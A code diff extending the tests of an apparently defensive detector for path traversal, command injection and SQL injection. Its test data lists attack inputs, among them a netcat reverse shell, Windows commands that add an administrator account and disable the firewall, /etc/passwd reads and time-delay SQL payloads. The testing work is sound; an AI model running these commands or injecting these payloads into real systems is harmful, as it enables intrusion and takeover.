@@ -220,6 +220,9 @@ describe('path traversal', () => {
     assert.equal(detectTraversal(arg('tomcat-users.xml'), '/'), 'file inclusion target tomcat-users.xml');
     assert.equal(detectTraversal(arg('global.asa'), '/'), 'file inclusion target global.asa');
     assert.equal(detectTraversal(arg('global.asax'), '/'), null);
+    // Apache's .htaccess as the file asked for, not as a word in prose.
+    assert.deepEqual(['.htaccess', '../.htaccess', '././.htaccess', '.HTACCESS', 'C:\\site\\.htaccess'].map((v) => detectTraversal(arg(v), '/')), Array(5).fill('file inclusion target .htaccess'));
+    assert.deepEqual(['edit your .htaccess file', '.htaccess-generator', 'my.htaccess', 'docs/.htaccess.example'].map((v) => detectTraversal(arg(v), '/')), [null, null, null, null]);
     assert.equal(detectTraversal(arg('GA1.2.1234567890.1700000000'), '/'), null);
     assert.equal(detectTraversal(arg('etc.passwd'), '/'), null);
     // A colon brings the wrappers back into play.
@@ -241,6 +244,8 @@ describe('command injection', () => {
       '||nc -e /bin/sh 1.2.3.4 4444',
       // Reconnaissance: commands no prose names, and word commands with an option or a path.
       'x;getent passwd', 'x;lsb_release -a', 'x;tac /etc/passwd', 'x;nl /etc/passwd', 'x;df -h', 'x;free -m', 'x;ss -tulpn', 'x;arp -a', 'x;route -n',
+      // Windows: net's subcommands are words, netsh is no word.
+      '| net user hacker Password1 /ADD', '& net localgroup Administrators hacker /ADD', '; net view', '&& netsh firewall set opmode disable',
     ];
     assert.deepEqual(misses(detectCommandInjection, attacks), []);
   });
@@ -250,7 +255,7 @@ describe('command injection', () => {
       'Tom & Jerry', 'dogs; cat lovers', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
       'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36', 'R&D; date night',
       'see you; echo chamber', '$(document).ready(fn)', 'cats | dogs', 'Q&A', 'text/html; charset=utf-8', 'a=1&b=2', 'line one\ncurl is a tool',
-      'price: 0; free 5 items', 'first; last', 'see route 66; route 66 trip', 'langs: en;nl;de', 'a; ip 10.0.0.1 port 80', 'free beer; free -- no charge', 'home | free shipping | returns',
+      'price: 0; free 5 items', 'first; last', 'gross & net profit', 'sales; net margin up', 'see route 66; route 66 trip', 'langs: en;nl;de', 'a; ip 10.0.0.1 port 80', 'free beer; free -- no charge', 'home | free shipping | returns',
     ];
     assert.deepEqual(hits(detectCommandInjection, benign), []);
   });
@@ -276,6 +281,19 @@ describe('command injection', () => {
     // A file in /etc is no command: `..;/etc/passwd` is a path (Tomcat's path parameter), not `; passwd`.
     assert.deepEqual(hits(detectCommandInjection, [';/etc/passwd', '/app/..;/..;/etc/passwd', '; ../etc/hosts']), []);
     assert.deepEqual(misses(detectCommandInjection, [';/usr/bin/passwd', ';passwd', ';cat /etc/passwd']), []);
+  });
+
+  it('reads a word alone on the line after a newline as a command only when it ends a one-token value', () => {
+    // Messages and lists from a text area: lines of one word after prose, lists of words, capitalised headings.
+    const benign = [
+      'Hello,\nPlease find the agenda.\nDate\nTime\nPlace', 'Shopping list:\ncat\nfood\nmore', 'Q:\nWho\nA: me', 'Thanks\nDate\n', 'x\nDate',
+      'Notes\n id \nsee', 'a\nb\nid', 'Agenda\r\nMore\r\n',
+    ];
+    assert.deepEqual(hits(detectCommandInjection, benign), []);
+    // What tools append to a field's value: the command on its own line, blanks and line ends around it.
+    const attacks = ['127.0.0.1\nid', '\nid\n', 'x\n id \n', '127.0.0.1\r\nid\r\n', 'x\n/usr/bin/id\nfoo', 'x\nwhoami\nfoo', 'a; id \n', 'x\ncat /etc/passwd\nmore text'];
+    assert.deepEqual(misses(detectCommandInjection, attacks), []);
+    assert.equal(detectCommandInjection('x\n id \n'), 'newline then id');
   });
 
   it("reads a User-Agent's comment items as items, and what follows a `;` outside them as shell", () => {
@@ -568,7 +586,8 @@ describe('payloads of real tools', () => {
     const benign = ['how to call DBMS_LOCK.SLEEP(5) in PL/SQL', 'DBMS_LOCK.SLEEP(5) waits 5 seconds, see docs', 'sleep(5) later', 'see dbms_lock.sleep docs', 'time.sleep(5) in python', 'sleep(5) in python', 'sleep(5) and more', 'https://shop.example/search?q=sleep(5)+in+python', 'buy 1 or 2+3 items', '1 or 2+2 is 4', 'tea or coffee in cups > 2'];
     assert.deepEqual(hits(detectSqli, benign), []);
     // A time delay with only words after its operator is a search; with the rest cut off, a comparison or SQL after it, a payload.
-    assert.deepEqual(misses(detectSqli, ['sleep(5)', 'sleep(5)#', 'sleep(5)=0', '1 RLIKE SLEEP(5)', '1 AND SLEEP(5) AND abc=abc']), []);
+    assert.deepEqual(misses(detectSqli, ['sleep(5)', 'sleep(5)#', 'sleep(5)=0', '1 RLIKE SLEEP(5)', '1 AND SLEEP(5) AND abc=abc', '1 ORDER BY SLEEP(5)', '1 ORDER BY SLEEP(5)#', 'ORDER BY pg_sleep(5)--']), []);
+    assert.deepEqual(hits(detectSqli, ['order by sleep(5) in python', 'sort order by sleep(8 hours)']), []);
   });
 
   it("finds sqlmap's level-5 boundaries on a text field, a cookie or a header", () => {
